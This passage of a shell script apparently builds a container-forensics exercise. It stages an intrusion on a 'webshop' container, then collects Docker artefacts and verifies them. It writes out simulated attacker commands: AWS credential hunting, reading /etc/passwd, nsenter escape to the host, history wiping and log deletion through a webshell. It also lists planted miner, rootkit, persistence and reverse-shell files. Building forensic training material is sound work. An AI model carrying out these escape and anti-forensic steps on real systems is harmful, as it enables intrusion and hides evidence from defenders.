x 'mkdir -p /tmp/cgrp'
put /root/.ash_history 0600 <<EOF
id
uname -a
cat /proc/1/cgroup
ls -la /.dockerenv /var/run/docker.sock
capsh --print
cat /etc/passwd
env | grep -i aws
ls -la /host/etc /srv/data
sh /tmp/update.sh
cat /tmp/.X11-unix/.x/config.json
ps aux | grep xmrig
nsenter -t 1 -m -u -i -n sh
unset HISTFILE
EOF
x 'ln -sf /dev/null /root/.bash_history'
sleep 2

# ---------------------------------------------------------------- phase 6: clean-up, normal traffic again
acc "$C2" "GET /cgi-bin/up.cgi?c=rm%20-f%20/var/log/httpd-access.log.1" 200 0 "$CURL"
x 'rm -f /var/log/httpd-access.log.1'
acc 127.0.0.1 "GET /cgi-bin/status.cgi" 200 88 "Wget"
acc 198.51.100.41 "GET /" 200 412 "$IPHONE"
acc 198.51.100.41 "GET /shop.html" 200 702 "$IPHONE" "$SHOP/"
acc 198.51.100.41 "POST /cgi-bin/cart.cgi" 200 14 "$IPHONE" "$SHOP/shop.html"
acc 127.0.0.1 "GET /cgi-bin/status.cgi" 200 88 "Wget"
sleep 2   # let tail -F forward the last lines

# live-only evidence, gone once the container stops (/dev/shm is a tmpfs)
SHM_LISTING=$(x 'ls -la /dev/shm')
echo "$SHM_LISTING" | grep -q '\.r\.sh'
d stop webshop >/dev/null
[ "$(d inspect --format '{{.State.Running}}' webshop)" = false ]
# no process of the container may survive (it shares the host's pid namespace)
if grep -l "$CONTAINER_ID" /proc/[0-9]*/cgroup 2>/dev/null | grep -q .; then
    echo "processes of the container are still alive" >&2; exit 1
fi

# ---------------------------------------------------------------- collect, as an examiner would
rm -f "$OUT"/demo-*
d inspect webshop >"$OUT/demo-inspect.json"
d image inspect acme/webshop:2.3 >"$OUT/demo-image-inspect.json"
d save acme/webshop:2.3 -o "$OUT/demo-image.tar"
d export webshop -o "$OUT/demo-export.tar"
d diff webshop >"$OUT/demo-diff.txt"
d logs --timestamps webshop >"$OUT/demo-logs.txt" 2>&1
LOGPATH=$(d inspect --format '{{.LogPath}}' webshop)
cp "$LOGPATH" "$OUT/demo-json.log"
for n in 1 2 3; do [ -f "$LOGPATH.$n" ] && cp "$LOGPATH.$n" "$OUT/demo-json.log.$n"; done
[ -f "$OUT/demo-json.log.1" ] || { echo "the json log did not rotate" >&2; exit 1; }
MOUNT_ID=$(cat "$DR/image/overlay2/layerdb/mounts/$CONTAINER_ID/mount-id")
INIT_ID=$(cat "$DR/image/overlay2/layerdb/mounts/$CONTAINER_ID/init-id")

# the daemon goes down before the data root is copied (a seized host)
kill "$DPID"
for _ in $(seq 1 30); do kill -0 "$DPID" 2>/dev/null || break; sleep 1; done
kill -0 "$DPID" 2>/dev/null && { echo "dockerd did not stop" >&2; exit 1; }
wait "$DPID" 2>/dev/null || true
DPID=

# only what a forensic tool needs: the container, the image store, the layer
# folders (diff, link, lower; not work/merged), the short links and the volumes
members=("docker/containers/$CONTAINER_ID" docker/image/overlay2 docker/overlay2/l docker/volumes)
for dir in "$DR"/overlay2/*/; do
    id=$(basename "$dir")
    [ "$id" = l ] && continue
    for f in diff link lower; do
        [ -e "$dir/$f" ] && members+=("docker/overlay2/$id/$f")
    done
done
[ -f "$DR/engine-id" ] && members+=(docker/engine-id)
tar -C "$W" --xattrs --xattrs-include='*' --numeric-owner --format=posix --sort=name \
    -cf "$W/dataroot.tar" "${members[@]}"
gzip -9 -n -c "$W/dataroot.tar" >"$OUT/demo-dataroot.tar.gz"

# ---------------------------------------------------------------- checks and facts
env DS_version="$SERVER_VERSION" DS_driver="$DRIVER" DS_native="${NATIVE:-n/a}" DS_image_id="$IMAGE_ID" \
    DS_cid="$CONTAINER_ID" DS_mount_id="$MOUNT_ID" DS_init_id="$INIT_ID" DS_base_sha="$BASE_SHA" \
    DS_so_kind="$SO_KIND" DS_aws_id="$AWS_ID" DS_aws_secret="$AWS_SECRET" DS_db_password="$DB_PASSWORD" \
    DS_c2="$C2" DS_scanner="$SCANNER" DS_pool="$POOL" DS_wallet="$WALLET" DS_revshell="$REVSHELL" \
    $PY - "$OUT" "$W/dataroot.tar" <<'EOF'
import hashlib, io, json, os, re, sys, tarfile
out, dataroot = sys.argv[1:]
V = {k[3:]: v for k, v in os.environ.items() if k.startswith("DS_")}
sha = lambda b: "sha256:" + hashlib.sha256(b).hexdigest()
import datetime
iso = lambda t: datetime.datetime.fromtimestamp(float(t), datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
facts = []
F = lambda k, v: facts.append((k, str(v).lower() if isinstance(v, bool) else v))

# -- docker save: image id, diff_ids, chain ids, whiteout/opaque markers
with tarfile.open(os.path.join(out, "demo-image.tar")) as t:
    m = json.load(t.extractfile("manifest.json"))
    assert len(m) == 1 and m[0]["RepoTags"] == ["acme/webshop:2.3"]
    m = m[0]
    cfg_bytes = t.extractfile(m["Config"]).read()
    cfg = json.loads(cfg_bytes)
    assert sha(cfg_bytes) == V["image_id"], "image id != sha256(config)"
    diff_ids = cfg["rootfs"]["diff_ids"]
    assert len(diff_ids) == len(m["Layers"])
    hist = cfg["history"]
    assert sum(1 for h in hist if not h.get("empty_layer")) == len(diff_ids)
    markers = []
    for i, (name, did) in enumerate(zip(m["Layers"], diff_ids)):
        b = t.extractfile(name).read()
        assert sha(b) == did, name
        for e in tarfile.open(fileobj=io.BytesIO(b)).getmembers():
            base = os.path.basename(e.name.rstrip("/"))
            if base == ".wh..wh..opq":
                markers.append(("image_opaque", i, e.name))
            elif base.startswith(".wh."):
                markers.append(("image_whiteout", i, e.name))
assert [k for k, _, _ in markers].count("image_opaque") >= 1 and [k for k, _, _ in markers].count("image_whiteout") >= 1
chain = [diff_ids[0]]
for did in diff_ids[1:]:
    chain.append(sha((chain[-1] + " " + did).encode()))
# layers that are not empty, paired with their history entries
layer_hist = [h for h in hist if not h.get("empty_layer")]
F("docker_version", V["version"]); F("storage_driver", V["driver"]); F("native_overlay_diff", V["native"])
F("image_ref", "acme/webshop:2.3"); F("image_id", V["image_id"]); F("image_created", cfg["created"])
F("base_image_ref", "acme/busybox:1.35"); F("base_import_tar_sha256", V["base_sha"])
F("base_layer_is_import_tar", V["base_sha"] == diff_ids[0])
F("layer_count", len(diff_ids)); F("history_count", len(hist))
F("empty_layer_count", sum(1 for h in hist if h.get("empty_layer")))
# cache-id (folder under overlay2/) of every layer, from the layerdb in the data root
dr = tarfile.open(dataroot)
drm = {e.name: e for e in dr.getmembers()}
def drread(p): return dr.extractfile(drm[p]).read()
for i, did in enumerate(diff_ids):
    ldb = "docker/image/overlay2/layerdb/sha256/" + chain[i].split(":")[1]
    assert drread(ldb + "/diff").decode() == did
    F("layer%d_diff_id" % i, did); F("layer%d_chain_id" % i, chain[i])
    F("layer%d_cache_id" % i, drread(ldb + "/cache-id").decode())
    F("layer%d_created_by" % i, (layer_hist[i].get("created_by") or "(import) " + layer_hist[i].get("comment", "")).replace("\n", " ")[:160])
for k, i, n in markers:
    F(k, "%d %s" % (i, n))
F("image_user", cfg["config"].get("User", "")); F("image_exposed_ports", ",".join(sorted(cfg["config"].get("ExposedPorts", {}))))
F("image_entrypoint", json.dumps(cfg["config"]["Entrypoint"])); F("image_cmd", json.dumps(cfg["config"]["Cmd"]))
F("image_env_secret", "AWS_ACCESS_KEY_ID=" + V["aws_id"]); F("image_env_secret", "AWS_SECRET_ACCESS_KEY=" + V["aws_secret"])

# -- the container
ins = json.load(open(os.path.join(out, "demo-inspect.json")))[0]
hc = ins["HostConfig"]
assert ins["Id"] == V["cid"]
F("container_id", V["cid"]); F("container_name", ins["Name"]); F("container_image", ins["Config"]["Image"])
F("container_created", ins["Created"]); F("container_started", ins["State"]["StartedAt"])
F("container_finished", ins["State"]["FinishedAt"]); F("container_exit_code", ins["State"]["ExitCode"])
F("container_mount_id", V["mount_id"]); F("container_init_id", V["init_id"])
F("cap_add", ",".join(hc["CapAdd"] or [])); F("pid_mode", hc["PidMode"]); F("network_mode", hc["NetworkMode"])
F("restart_policy", hc["RestartPolicy"]["Name"]); F("security_opt", ",".join(hc["SecurityOpt"] or []))
F("masked_paths_empty", hc["MaskedPaths"] == []); F("apparmor_profile", ins["AppArmorProfile"])
for cport, binds in sorted((hc["PortBindings"] or {}).items()):
    for b in binds:
        F("port_binding", "%s:%s->%s" % (b["HostIp"], b["HostPort"], cport))
F("ports_published", bool(ins["NetworkSettings"]["Ports"]))
for mp in sorted(ins["Mounts"], key=lambda mp: mp["Destination"]):
    F("mount", "%s %s -> %s rw=%s propagation=%s" % (mp["Type"], mp.get("Name") or mp["Source"], mp["Destination"],
                                                    str(mp["RW"]).lower(), mp.get("Propagation") or "-"))
F("memory_limit", hc["Memory"]); F("nano_cpus", hc["NanoCpus"]); F("pids_limit", json.dumps(hc["PidsLimit"]))
F("log_driver", hc["LogConfig"]["Type"])
F("log_opts", ",".join("%s=%s" % kv for kv in sorted(hc["LogConfig"]["Config"].items())))

# -- docker diff
diff = [l.rstrip("\n") for l in open(os.path.join(out, "demo-diff.txt")) if l.strip()]
for l in sorted(diff, key=lambda l: l[2:]):
    F("diff", l)
F("diff_count", len(diff))
assert "D /var/log/httpd-access.log.1" in diff

# -- planted files, hashed from the evidence that holds them
ex = tarfile.open(os.path.join(out, "demo-export.tar"))
exm = {"/" + e.name.strip("/").removeprefix("./"): e for e in ex.getmembers()}
assert "/var/log/httpd-access.log.1" not in exm and "/dev/shm/.r.sh" not in exm
planted = ["/srv/www/cgi-bin/up.cgi", "/srv/www/.cache.php", "/tmp/update.sh",
           "/tmp/.X11-unix/.x/xmrig", "/tmp/.X11-unix/.x/config.json", "/tmp/.X11-unix/.x/grab.sh",
           "/tmp/.X11-unix/.x/esc.sh", "/tmp/.X11-unix/.x/.loot", "/tmp/.X11-unix/.x/etc.tgz",
           "/var/spool/cron/crontabs/root", "/etc/cron.d/sysupdate", "/root/.ssh/authorized_keys",
           "/etc/passwd", "/etc/shadow", "/etc/ld.so.preload", "/usr/lib/libprocesshider.so",
           "/bin/ps", "/etc/profile", "/tmp/.sh", "/root/.ash_history", "/root/.aws/credentials",
           "/var/log/httpd/access.log", "/var/log/httpd/error.log", "/var/run/webshop.pid",
           "/var/cache/webshop/catalog.cache"]
for p in planted:
    e = exm[p]
    assert e.isreg(), p
    b = ex.extractfile(e).read()
    F("planted", "%s %s %d %04o %s export" % (p, sha(b), len(b), e.mode & 0o7777, iso(e.mtime)))
e = exm["/root/.bash_history"]; assert e.issym()
F("planted_symlink", "/root/.bash_history -> " + e.linkname)
F("planted_dir", "/tmp/cgrp")
assert exm["/tmp/cgrp"].isdir()
vol = "docker/volumes/webshop-uploads/_data/"
for n in ("img_2231.php", "avatar_77.png"):
    b = drread(vol + n)
    F("planted", "/srv/www/uploads/%s %s %d %04o %s volume:webshop-uploads" % (n, sha(b), len(b), drm[vol + n].mode & 0o7777, iso(drm[vol + n].mtime)))
hosts = drread("docker/containers/%s/hosts" % V["cid"])
assert b"pool.supportxmr.com" in hosts
he = drm["docker/containers/%s/hosts" % V["cid"]]
F("planted", "/etc/hosts %s %d %04o %s containers/<id>/hosts" % (sha(hosts), len(hosts), he.mode & 0o7777, iso(he.mtime)))
r = (V["revshell"] + "\n").encode()
F("lost", "/dev/shm/.r.sh %s %d tmpfs, not in any artefact" % (sha(r), len(r)))
for p in ("/usr/local/bin/helper", "/tmp/.sh"):
    assert exm[p].mode & 0o4000, p
F("setuid", "/usr/local/bin/helper image"); F("setuid", "/tmp/.sh container")
F("libprocesshider_kind", V["so_kind"])
F("export_member_count", len(ex.getmembers()))

# -- the data root copy: whiteouts (char 0/0) and opaque xattrs must have survived
up = "docker/overlay2/%s/diff" % V["mount_id"]
cache = dict((k, v) for k, v in facts if re.match(r"layer\d+_cache_id$", k))
wh, opq = [], []
for e in dr.getmembers():
    if e.ischr() and e.devmajor == 0 and e.devminor == 0 and "/diff/" in e.name:
        wh.append(e.name)
    if e.pax_headers.get("SCHILY.xattr.trusted.overlay.opaque") == "y":
        opq.append(e.name)
for n in sorted(wh): F("dataroot_whiteout", n)
for n in sorted(opq): F("dataroot_opaque", n)
assert up + "/var/log/httpd-access.log.1" in wh, "container whiteout missing"
assert up + "/var/cache/webshop" in opq, "container opaque dir missing"
assert any(n.endswith("/diff/srv/www/cgi-bin/test.cgi") for n in wh), "image whiteout missing"
assert any(n.endswith("/diff/srv/www/static") for n in opq), "image opaque dir missing"
F("dataroot_upper_dir", up)
F("dataroot_member_count", len(dr.getmembers()))

# -- logs
def jl(path):
    rows = [json.loads(l) for l in open(path)]
    return rows
files = ["demo-json.log.%d" % n for n in (3, 2, 1) if os.path.exists(os.path.join(out, "demo-json.log.%d" % n))] + ["demo-json.log"]
total = {"stdout": 0, "stderr": 0}
for f in files:
    rows = jl(os.path.join(out, f))
    F("json_log_file", "%s lines=%d first=%s last=%s" % (f, len(rows), rows[0]["time"], rows[-1]["time"]))
    for r_ in rows: total[r_["stream"]] += 1
F("json_log_lines", total["stdout"] + total["stderr"]); F("json_log_stdout_lines", total["stdout"]); F("json_log_stderr_lines", total["stderr"])
F("docker_logs_lines", sum(1 for _ in open(os.path.join(out, "demo-logs.txt"))))
acc = ex.extractfile(exm["/var/log/httpd/access.log"]).read().decode().splitlines()
errl = ex.extractfile(exm["/var/log/httpd/error.log"]).read().decode().splitlines()
F("access_log_lines", len(acc)); F("error_log_lines", len(errl))
def first(ip):
    for l in acc:
        if l.startswith(ip + " "):
            return l.split("[", 1)[1].split("]", 1)[0]
F("access_first_scanner", first(V["scanner"])); F("access_first_attacker", first(V["c2"]))
F("access_attacker_lines", sum(1 for l in acc if l.startswith(V["c2"] + " ")))
F("access_scanner_lines", sum(1 for l in acc if l.startswith(V["scanner"] + " ")))
F("attacker_ip", V["c2"]); F("scanner_ip", V["scanner"]); F("miner_pool", V["pool"]); F("miner_wallet", V["wallet"])
F("reverse_shell", V["revshell"]); F("db_password", V["db_password"])

with open(os.path.join(out, "demo-facts.txt"), "w") as f:
    f.write("# written by make.sh; key=value, one a line; keys may repeat (diff, planted, mount, ...)\n")
    f.write("# planted=<path> <sha256> <size> <mode> <mtime UTC> <where it is>\n")
    for k, v in facts:
        f.write("%s=%s\n" % (k, v))
print("checks ok: %d facts" % len(facts))
EOF

echo "$SHM_LISTING" >"$W/shm.txt"
chmod -R a+rX "$OUT"
echo
echo "docker diff:"; cat "$OUT/demo-diff.txt"
echo "/dev/shm before the stop:"; cat "$W/shm.txt"
ls -l "$OUT"
du -sh "$OUT"
